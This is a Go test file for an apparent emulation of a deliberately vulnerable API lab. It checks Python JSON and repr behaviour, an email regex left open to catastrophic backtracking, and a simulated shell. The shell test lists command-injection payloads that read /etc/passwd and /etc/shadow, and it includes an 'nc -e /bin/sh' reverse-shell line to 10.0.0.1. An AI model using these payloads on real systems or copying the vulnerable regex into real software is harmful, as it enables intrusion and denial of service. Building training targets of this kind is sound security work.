package flasklike

import (
	"context"
	"math"
	"strings"
	"testing"
	"time"
)

// The messages below were recorded from CPython 3.11's json module.
func TestPythonJSONErrors(t *testing.T) {
	cases := map[string]string{
		``:             "Expecting value: line 1 column 1 (char 0)",
		`{`:            "Expecting property name enclosed in double quotes: line 1 column 2 (char 1)",
		`{"a":1,}`:     "Expecting property name enclosed in double quotes: line 1 column 8 (char 7)",
		`[1,]`:         "Expecting value: line 1 column 4 (char 3)",
		`[1 2]`:        "Expecting ',' delimiter: line 1 column 4 (char 3)",
		`{"a" 1}`:      "Expecting ':' delimiter: line 1 column 6 (char 5)",
		`"abc`:         "Unterminated string starting at: line 1 column 1 (char 0)",
		`{"a":"\x"}`:   "Invalid \\escape: line 1 column 7 (char 6)",
		`01`:           "Extra data: line 1 column 2 (char 1)",
		`tru`:          "Expecting value: line 1 column 1 (char 0)",
		`{"a":1}x`:     "Extra data: line 1 column 8 (char 7)",
		"\"\x01\"":     "Invalid control character at: line 1 column 2 (char 1)",
		"\n\n  x":      "Expecting value: line 3 column 3 (char 4)",
		`{"a":"\u12"}`: "Invalid \\uXXXX escape: line 1 column 8 (char 7)",
		"\xff":         "'utf-8' codec can't decode byte 0xff in position 0: invalid start byte",
		"\"\xc3":       "'utf-8' codec can't decode byte 0xc3 in position 1: unexpected end of data",
	}
	for in, want := range cases {
		_, err := pyLoads([]byte(in))
		if err == nil || err.Error() != want {
			t.Errorf("%q: %v, want %s", in, err, want)
		}
	}
	v, err := pyLoads([]byte(`{"b": [1, 2.5, null, true, NaN, -Infinity], "a": "\u00e9\ud83d\ude00", "b": -0}`))
	if err != nil {
		t.Fatal(err)
	}
	d := v.(*pyDict)
	if got := pyRepr(d); got != `{'b': 0, 'a': 'é😀'}` {
		t.Errorf("repr %s", got)
	}
	if f, _ := pyLoads([]byte(`NaN`)); !math.IsNaN(f.(float64)) {
		t.Error("NaN")
	}
}

func TestPythonReprAndDumps(t *testing.T) {
	reprs := map[string]any{
		`"it's"`: "it's", `'a"b\'c'`: `a"b'c`, `1e+16`: 1e16, `1e-05`: 1e-5, `123.0`: 123.0, `0.1`: 0.1,
		`{'a': [1, None, True]}`: obj("a", []any{pyInt("1"), nil, true}), `'tab\there'`: "tab\there",
	}
	for want, v := range reprs {
		if got := pyRepr(v); got != want {
			t.Errorf("repr %v: %s, want %s", v, got, want)
		}
	}
	if got := pyDumps(obj("b", pyInt("1"), "a", "é\x7f")); got != `{"a": "\u00e9\u007f", "b": 1}` {
		t.Errorf("dumps %s", got)
	}
	if got := jsonify(obj("x", []any{}, "y", obj())); got != "{\n  \"x\": [],\n  \"y\": {}\n}\n" {
		t.Errorf("jsonify %q", got)
	}
}

func TestBacktrackingRegex(t *testing.T) {
	// Python's re.search results for both of the app's patterns.
	cases := []struct {
		s            string
		vuln, secure bool
	}{
		{"mail3@mail.com", true, true}, {"a@b.co", false, false}, {"ab@cd.com", true, true},
		{"a.b-c_d@ex-ample.co.uk", true, false}, {"x@y", false, false}, {"@mail.com", false, false},
		{"mail@mail.com\n", true, true}, {"mail@@mail.com", false, false}, {"m@mail.c", false, false},
		{"é@mail.com", false, false}, {"ab@mail.toolongtld1", false, false}, {"John.Doe@mail.com", true, false},
		{"a_b@c.io", false, true}, {"aa@b_c.de", true, true},
	}
	for _, c := range cases {
		if got := vulnEmail(c.s); got != c.vuln {
			t.Errorf("vulnerable %q: %v", c.s, got)
		}
		if got := secureEmail(c.s); got != c.secure {
			t.Errorf("secure %q: %v", c.s, got)
		}
	}
	// The cost grows exponentially with the run of letters, up to the cap.
	short := timeIt(func() { vulnEmail(strings.Repeat("a", 12) + "!") })
	long := timeIt(func() { vulnEmail(strings.Repeat("a", 22) + "!") })
	if long < 50*short || long < 20*time.Millisecond {
		t.Errorf("12 letters %s, 22 letters %s: not exponential", short, long)
	}
	capped := timeIt(func() { vulnEmail(strings.Repeat("a", 60) + "!") })
	if capped < 2900*time.Millisecond || capped > 3500*time.Millisecond {
		t.Errorf("capped run took %s", capped)
	}
	if d := timeIt(func() { secureEmail(strings.Repeat("a", 60000) + "!") }); d > 200*time.Millisecond {
		t.Errorf("secure pattern took %s", d)
	}
}

func timeIt(f func()) time.Duration {
	start := time.Now()
	f()
	return time.Since(start)
}

func TestSimulatedShell(t *testing.T) {
	id := "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"
	ping := "PING 127.0.0.1 (127.0.0.1) 56(84) bytes of data.\n64 bytes from 127.0.0.1: icmp_seq=1 ttl=64 time=0.045 ms\n\n--- 127.0.0.1 ping statistics ---\n1 packets transmitted, 1 received, 0% packet loss, time 0ms\nrtt min/avg/max/mdev = 0.045/0.045/0.045/0.000 ms\n"
	cases := []struct {
		cmd  string
		out  string
		code int
	}{
		{"ping -c 1 127.0.0.1", ping, 0},
		{"ping -c 1 127.0.0.1;id", ping + id, 0},
		{"ping -c 1 127.0.0.1|id", id, 0},
		{"ping -c 1 x || id", id + "ping: x: Temporary failure in name resolution\n", 0},
		{"ping -c 1 x && id", "ping: x: Temporary failure in name resolution\n", 2},
		{"ping -c 1 127.0.0.1;echo $(id)", ping + id, 0},
		{"ping -c 1 127.0.0.1;echo `whoami`", ping + "www-data\n", 0},
		{"ping -c 1 127.0.0.1;cat${IFS}/etc/passwd|grep www", ping + "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n", 0},
		{"ping -c 1 127.0.0.1 ; cat /etc/shadow", ping + "cat: /etc/shadow: Permission denied\n", 1},
		{"ping -c 1 ;id", id + "ping: usage error: Destination address required\n", 0},
		{"ping -c 1 127.0.0.1;;id", "sh: 1: Syntax error: \";;\" unexpected\n", 2},
		{"ping -c 1 127.0.0.1; | id", "sh: 1: Syntax error: \"|\" unexpected\n", 2},
		{"ping -c 1 'x", "sh: 1: Syntax error: Unterminated quoted string\n", 2},
		{"ping -c 1 $(id", "sh: 1: Syntax error: end of file unexpected (expecting \")\")\n", 2},
		{"ping -c 1 127.0.0.1 |", "sh: 1: Syntax error: end of file unexpected\n", 2},
		{"ping -c 1 127.0.0.1; curl http://127.0.0.1/", ping + "sh: 1: curl: not found\n", 127},
		{"ping -c 1 127.0.0.1 > /dev/null; uname -a", "Linux a3f9c2d1e8b7 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 GNU/Linux\n", 0},
		{"ping -c 1 127.0.0.1\nid", ping + id, 0},
		{"ping -c 1 \"127.0.0.1\"; echo \"$USER:$HOME\" 'lit $HOME'", ping + "www-data:/var/www lit $HOME\n", 0},
		{"ping -c 1 127.0.0.1; ls /vampi | wc -l", ping + "8\n", 0},
		{"ping -c 1 8.8.8.8", "ping: connect: Network is unreachable\n", 2},
		{"ping -c 1 127.0.0.1; exit 3; id", ping, 3},
		{"ping -c 1 127.0.0.1 2>&1; nc -e /bin/sh 10.0.0.1 4444", ping + "sh: 1: nc: not found\n", 127},
	}
	for _, c := range cases {
		out, code := runShell(context.Background(), c.cmd)
		if out != c.out || code != c.code {
			t.Errorf("%q:\n got %d %q\nwant %d %q", c.cmd, code, out, c.code, c.out)
		}
	}
	// sleep really sleeps, and the command timeout stops it.
	if d := timeIt(func() { runShell(context.Background(), "ping -c 1 127.0.0.1; sleep 0.3") }); d < 300*time.Millisecond {
		t.Errorf("sleep 0.3 took %s", d)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
	defer cancel()
	if d := timeIt(func() { runShell(ctx, "sleep 30") }); d > time.Second {
		t.Errorf("timeout ignored: %s", d)
	}
}

func TestConcurrentUse(t *testing.T) {
	a := start(t, Options{})
	done := make(chan bool)
	for i := 0; i < 8; i++ {
		go func(i int) {
			defer func() { done <- true }()
			for j := 0; j < 20; j++ {
				a.call("GET", "/users/v1/name1", nil)
				a.call("POST", "/users/v1/register", m{"username": "u" + itoa(i*100+j), "password": "p", "email": "e@x.io"})
				a.call("POST", "/users/v1/login", m{"username": "name1", "password": "pass1"})
				a.call("GET", "/books/v1", nil)
			}
		}(i)
	}
	for i := 0; i < 8; i++ {
		<-done
	}
	_, _, body := a.call("GET", "/users/v1", nil)
	if n := strings.Count(body, `"username"`); n != 3+160 {
		t.Errorf("%d users", n)
	}
}
